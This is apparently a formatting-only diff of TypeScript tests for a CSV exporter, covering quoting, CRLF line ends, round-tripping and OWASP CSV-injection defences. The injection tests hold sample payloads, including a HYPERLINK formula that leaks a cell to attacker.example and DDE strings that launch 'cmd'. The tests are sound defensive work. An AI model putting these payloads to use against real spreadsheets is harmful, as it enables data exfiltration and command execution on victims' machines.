@@ -11,16 +11,16 @@ const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\r\n',
 
 describe('toCsv', () => {
   it('writes a header and rows with CRLF line ends, quoting only where needed', () => {
-    const csv = toCsv(['id', 'note', 'count', 'done'], [
-      ['e2ee', 'Keys, rotated', 3, false],
-      ['bounty', 'He said "fine"', 0, true],
-      ['multi', 'line one\nline two', null, undefined],
-    ]);
+    const csv = toCsv(
+      ['id', 'note', 'count', 'done'],
+      [
+        ['e2ee', 'Keys, rotated', 3, false],
+        ['bounty', 'He said "fine"', 0, true],
+        ['multi', 'line one\nline two', null, undefined],
+      ],
+    );
     expect(csv).toBe(
-      'id,note,count,done\r\n' +
-        'e2ee,"Keys, rotated",3,false\r\n' +
-        'bounty,"He said ""fine""",0,true\r\n' +
-        'multi,"line one\nline two",,\r\n',
+      'id,note,count,done\r\n' + 'e2ee,"Keys, rotated",3,false\r\n' + 'bounty,"He said ""fine""",0,true\r\n' + 'multi,"line one\nline two",,\r\n',
     );
   });
 
@@ -38,7 +38,11 @@ describe('toCsv', () => {
   });
 
   it('reads back, with csv-parse, exactly what it wrote', () => {
-    const rows = [['id', 'text'], ['1', 'Ampersands & <angle> "quotes", commas\r\nand lines'], ['2', ' edge ']];
+    const rows = [
+      ['id', 'text'],
+      ['1', 'Ampersands & <angle> "quotes", commas\r\nand lines'],
+      ['2', ' edge '],
+    ];
     expect(read(toCsv(rows[0]!, rows.slice(1)))).toEqual(rows);
   });
 });
@@ -47,9 +51,9 @@ describe('formulas (OWASP CSV injection)', () => {
   const header = ['case', 'value'];
   const cases: [string, string][] = [
     ['equals', '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")'],
-    ['plus', '+1+cmd|\' /C calc\'!A0'],
-    ['minus', '-2+3+cmd|\' /C calc\'!A0'],
-    ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['plus', "+1+cmd|' /C calc'!A0"],
+    ['minus', "-2+3+cmd|' /C calc'!A0"],
+    ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
     ['tab', '\t=1+1'],
     ['carriage return', '\r=1+1'],
   ];
@@ -76,7 +80,10 @@ describe('formulas (OWASP CSV injection)', () => {
   it('leaves numbers as numbers, negative ones too, but not text that looks like a number', () => {
     const csv = toCsv(['longitude', 'count', 'text'], [[-122.99, -5, '-5']]);
     expect(csv).toBe(`longitude,count,text\r\n-122.99,-5,"'-5"\r\n`);
-    expect(read(csv)).toEqual([['longitude', 'count', 'text'], ['-122.99', '-5', "'-5"]]);
+    expect(read(csv)).toEqual([
+      ['longitude', 'count', 'text'],
+      ['-122.99', '-5', "'-5"],
+    ]);
   });
 
   it('leaves text that only contains those characters later on as it is', () => {
